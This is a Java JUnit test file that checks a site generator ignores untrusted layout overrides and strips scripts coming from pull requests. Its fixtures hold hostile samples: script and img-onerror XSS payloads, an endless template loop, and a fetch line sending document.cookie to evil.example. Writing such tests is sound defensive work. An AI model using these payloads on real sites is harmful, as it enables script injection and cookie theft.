package dev.polcat.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A catalog may override the site's layouts ({@code templates/layouts/*.ftlh}) and stylesheet. In a
 * pull request those are hostile too: a layout writes the page's HTML. So overrides are used only with
 * {@code --trust-layouts} (never in pull-request builds), and scripts are never taken from the catalog.
 */
class LayoutOverridesTest {
    @TempDir
    Path dir;

    private Hostile h;

    @BeforeEach
    void catalog() {
        h = Hostile.minimal(dir);
    }

    @Test
    void anEndlessLayoutIsIgnoredWithoutTrust() {
        h.with("templates/layouts/base.ftlh", "<#macro page><#list 1.. as i></#list></#macro>");
        Hostile.Result r = h.build("--template-timeout", "1");
        assertEquals(0, r.exit(), r::toString);
        assertTrue(r.err().contains("warning: the catalog's layout overrides are not used"), r::toString);
    }

    @Test
    void anUntrustedLayoutCannotAddScript() throws IOException {
        // A trusted layout is trusted code (it could drop the CSP too); the guard is that without
        // --trust-layouts a pull request's layout is not used at all.
        h.with("templates/layouts/404.ftlh", """
                <!DOCTYPE html><html><head><title>x</title></head><body>
                <script>alert(1)</script><img src=x onerror=alert(1)></body></html>""");
        Hostile.Result r = h.build();
        assertEquals(0, r.exit(), r::toString);
        assertEquals("""
                templates/layouts/: warning: the catalog's layout overrides are not used: layouts write the site's HTML, so they are trusted code [P116]
                  hint: build with --trust-layouts once they are reviewed (not in pull-request builds)""", r.err().strip());
        assertTrue(
                Files.readString(h.out().resolve("404.html")).contains("Content-Security-Policy"),
                "the bundled 404 page");
        try (Stream<Path> pages = Files.walk(h.out()).filter(p -> p.toString().endsWith(".html"))) {
            for (Path page : pages.toList()) {
                OutputEscapingTest.assertNoActiveContent(Jsoup.parse(page.toFile(), "UTF-8"), page);
            }
        }
    }

    @Test
    void anOverriddenScriptAssetIsNotPublished() throws IOException {
        h.with("templates/layouts/assets/site.js", "fetch('https://evil.example/?' + document.cookie);\n");
        Hostile.Result r = h.build("--trust-layouts");
        assertEquals(0, r.exit(), r::toString);
        assertTrue(
                !Files.readString(h.out().resolve("assets/site.js")).contains("evil.example"),
                "a pull request's script runs on every page (CSP script-src 'self' allows it)");
    }

    @Test
    void trustedOverridesReplaceTheBundledLayoutAndStylesheet() throws IOException {
        h.with(
                "templates/layouts/404.ftlh",
                "<#import \"base.ftlh\" as layout><@layout.page><h1>Lost? Ask #platform</h1></@layout.page>");
        h.with("templates/layouts/assets/style.css", "body { color: rebeccapurple; }\n");
        Hostile.Result r = h.build("--trust-layouts");
        assertEquals(0, r.exit(), r::toString);
        assertTrue(Files.readString(h.out().resolve("404.html")).contains("<h1>Lost? Ask #platform</h1>"));
        assertEquals(
                "body { color: rebeccapurple; }\n", Files.readString(h.out().resolve("assets/style.css")));
        assertTrue(
                Files.readString(h.out().resolve("404.html")).contains("Content-Security-Policy"),
                "the frame keeps the CSP");
    }
}
